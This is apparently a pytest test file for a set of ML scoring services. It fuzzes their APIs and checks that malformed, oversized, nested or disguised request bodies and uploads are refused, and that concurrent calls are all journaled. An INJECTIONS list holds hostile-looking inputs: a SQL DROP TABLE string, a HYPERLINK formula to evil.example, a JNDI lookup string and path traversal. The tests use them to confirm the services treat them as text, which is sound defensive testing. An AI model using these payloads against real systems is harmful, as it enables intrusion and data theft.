"""No body makes a service fail, and many callers at once lose nothing."""

import asyncio
import gzip
import io
import json
import re
import zipfile
from collections.abc import Callable
from datetime import timedelta

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.testclient import TestClient
from starlette.types import ASGIApp

from bentos.fraud.requests import TransactionScoringRequest
from bentos.fraud.service import fraud_app
from bentos.prescoring.form import ApplicationForm
from bentos.serving.application import guarded
from bentos.serving.backend import Backend
from clock import now

NAMES = {
    "fraud": list(TransactionScoringRequest.model_fields),
    "income": ["client_id", "features", "spend_total_90d", "city"],
    "prescoring": [*ApplicationForm.model_fields, "features"],
}
PATHS = {"fraud": "/api/v1/score_transaction", "income": "/api/predictions", "prescoring": "/prescore"}

scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(st.characters(), max_size=8)
    | st.sampled_from([0, 1, 31_000, 1e308, 10**400, "2000-11-22 00:00:00.0000000", "\ud800", "\x00", "12345"])
)


def bodies(names: list[str]) -> st.SearchStrategy[object]:
    """JSON that is often nearly right."""
    return st.recursive(
        scalars,
        lambda inner: (
            st.dictionaries(st.sampled_from(names) | st.text(max_size=4), inner, max_size=5) | st.lists(inner, max_size=2)
        ),
        max_leaves=10,
    )


@pytest.mark.parametrize("use_case", list(PATHS))
@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_no_body_yields_a_5xx(post: Callable[..., httpx.Response], use_case: str, data: st.DataObject) -> None:
    answer = post(use_case, PATHS[use_case], json.dumps(data.draw(bodies(NAMES[use_case]))).encode())
    assert answer.status_code < 500
    assert answer.status_code == 200 or set(answer.json()) == {"error"}


LONG = "9" * 400
INJECTIONS = (
    "'; DROP TABLE scores; --",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1)",
    "-2+3",
    "+7",
    "{{7*7}}",
    "${jndi:ldap://x}",
    "../../x",
)
CONTRACT: dict[str, dict[str, dict[str, object]]] = {
    "fraud": {
        "/api/v1/score_transaction": {"amount": 31000, "client_id": "12345"},
        "/api/v1/explain_transaction": {"amount": 31000, "client_id": "12345"},
        "/api/v1/score_batch": {"items": [{"amount": 31000, "client_id": "12345"}]},
    },
    "income": {
        "/api/predictions": {"features": {"salary_in_90d": 1.0}, "client_id": "12345"},
        "/api/simulate": {"features_override": {"salary_in_90d": 1.0}, "external_id": "12345"},
    },
    "prescoring": {
        "/prescore": {"monthprofit": 350000, "loan_amount": 250000, "education": "a"},
        "/upload_features": {"monthprofit": 350000, "loan_amount": 250000, "education": "a"},
    },
}
"""A body that fits, for every endpoint that reads JSON."""

ENDPOINTS = [(use_case, path) for use_case, paths in CONTRACT.items() for path in paths]


@pytest.fixture(scope="module")
def post(service_client: Callable[[str], TestClient]) -> Callable[..., httpx.Response]:
    """Sends a body to a path of a service."""

    def send(use_case: str, path: str, content: bytes, content_type: str = "application/json") -> httpx.Response:
        return service_client(use_case).post(path, content=content, headers={"Content-Type": content_type})

    return send


def refused(answer: httpx.Response, *statuses: int) -> bool:
    """Whether an answer is one of these refusals, in the one error shape."""
    return answer.status_code in statuses and set(answer.json()) == {"error"} and bool(answer.json()["error"]["message"])


def with_number(body: object, text: str) -> bytes:
    """A body with its first number replaced by `text`, which need not be JSON."""
    return re.sub(r": \d[\d.]*", f": {text}", json.dumps(body), count=1).encode()


@pytest.mark.parametrize(("use_case", "path"), ENDPOINTS)
@pytest.mark.parametrize(
    "number", ["NaN", "Infinity", "-Infinity", "1e308", "-1e308", "1e999", LONG, '"1"', "true", "[]", "{}", "[1]"]
)
def test_a_number_that_is_none_or_absurd_is_refused(
    post: Callable[..., httpx.Response], use_case: str, path: str, number: str
) -> None:
    assert refused(post(use_case, path, with_number(CONTRACT[use_case][path], number)), 422)


@pytest.mark.parametrize(("use_case", "path"), ENDPOINTS)
def test_a_negative_amount_is_refused_and_named(post: Callable[..., httpx.Response], use_case: str, path: str) -> None:
    answer = post(use_case, path, with_number(CONTRACT[use_case][path], "-1"))
    assert refused(answer, 422)
    named = answer.json()["error"]["field"]
    assert named.split(".")[-1] in ("amount", "monthprofit", "salary_in_90d")
    assert named in answer.json()["error"]["message"]


@pytest.mark.parametrize(("use_case", "path"), ENDPOINTS)
@pytest.mark.parametrize("value", [None, 1, "x", [], {}])
def test_an_unknown_field_is_refused_and_named(
    post: Callable[..., httpx.Response], use_case: str, path: str, value: object
) -> None:
    body = CONTRACT[use_case][path] | {"colour_of_eyes": value}
    answer = post(use_case, path, json.dumps(body).encode())
    assert refused(answer, 422)
    assert "colour_of_eyes" in answer.json()["error"]["field"]


@pytest.mark.parametrize(("use_case", "path"), ENDPOINTS)
@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"null",
        b"[]",
        b"0",
        b'"x"',
        b"{",
        b"{'a': 1}",
        b"\xff\xfe\x00",
        b"PK\x03\x04",
        b"\x80\x04\x95.",
        b'{"\\ud800": 1}',
        b"[" * 10_000 + b"]" * 10_000,
        b'{"amount":' * 10_000 + b"1" + b"}" * 10_000,
    ],
    ids=lambda text: repr(text[:12]),
)
def test_p31_what_is_no_such_body_is_refused_at_any_depth(
    post: Callable[..., httpx.Response], use_case: str, path: str, text: bytes
) -> None:
    assert refused(post(use_case, path, text), 400, 422)


@pytest.mark.parametrize(("use_case", "path"), ENDPOINTS)
def test_p31_40_mebibytes_are_refused(post: Callable[..., httpx.Response], use_case: str, path: str) -> None:
    assert refused(post(use_case, path, b" " * (40 << 20)), 413)


@pytest.mark.parametrize(("use_case", "path"), ENDPOINTS)
@pytest.mark.parametrize("text", INJECTIONS)
def test_sql_and_formulas_in_text_are_text(post: Callable[..., httpx.Response], use_case: str, path: str, text: str) -> None:
    body = json.dumps(CONTRACT[use_case][path]).replace('"12345"', json.dumps(text)).replace('"a"', json.dumps(text))
    answer = post(use_case, path, body.encode())
    assert answer.status_code in (200, 201, 404, 409, 422)
    assert "Traceback" not in answer.text
    assert "SELECT" not in answer.text


@pytest.mark.parametrize("path", ["/upload/clients", "/upload/transactions", "/upload/transfers"])
@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (b"", "multipart/form-data"),
        (b"--x\r\n", "multipart/form-data; boundary=x"),
        (b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\na,b', "multipart/form-data; boundary=x"),
        (b'--x\r\nContent-Disposition: form-data; name="other"\r\n\r\n1\r\n--x--\r\n', "multipart/form-data; boundary=x"),
        (b"--y--\r\n", "multipart/form-data; boundary=" + "x" * 300),
        (b"--x--\r\n", 'multipart/form-data; boundary="'),
        (b"{}", "application/json"),
    ],
)
def test_a_broken_upload_is_refused(post: Callable[..., httpx.Response], path: str, content: bytes, content_type: str) -> None:
    assert refused(post("recommendation", path, content, content_type), 400, 415, 422)


def zipped() -> bytes:
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("clients.csv", "client_code,name\n1,x\n")
        return file.getvalue()


@pytest.mark.parametrize("path", ["/upload/clients", "/upload/transactions", "/upload/transfers"])
@pytest.mark.parametrize(
    "content",
    [zipped(), gzip.compress(b"client_code\n1\n", mtime=0), b"\x80\x04\x95.", b"\x00" * 1000, b"%PDF-1.4", b"PAR1"],
    ids=lambda c: repr(c[:6]),
)
def test_a_csv_that_is_something_else_is_refused(post: Callable[..., httpx.Response], path: str, content: bytes) -> None:
    part = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n' + content + b"\r\n--x--\r\n"
    assert refused(post("recommendation", path, part, "multipart/form-data; boundary=x"), 415, 422)


async def together(app: ASGIApp, path: str, bodies: list[dict[str, object]]) -> list[dict[str, object]]:
    """What many callers at once are answered."""
    transport = httpx.ASGITransport(app)
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
        answers = await asyncio.gather(*(client.post(path, json=body) for body in bodies))
    return [answer.json() for answer in answers]


def test_every_score_of_many_concurrent_callers_is_in_the_journal(opened: Callable[[str], Backend]) -> None:
    backend = opened("fraud")
    bodies: list[dict[str, object]] = [{"amount": float(amount)} for amount in range(200)]
    answers = asyncio.run(together(guarded(fraud_app(backend), backend.config), "/api/v1/score_transaction", bodies))
    kept = backend.journal.window("fraud", now() - timedelta(minutes=5), now() + timedelta(minutes=5))
    by_id = kept.set_index("score_id")
    for body, answer in zip(bodies, answers, strict=True):
        assert by_id.loc[answer["score_id"], "feature_amount"] == body["amount"]
        assert by_id.loc[answer["score_id"], "prediction_fraud"] == answer["fraud_probability"]
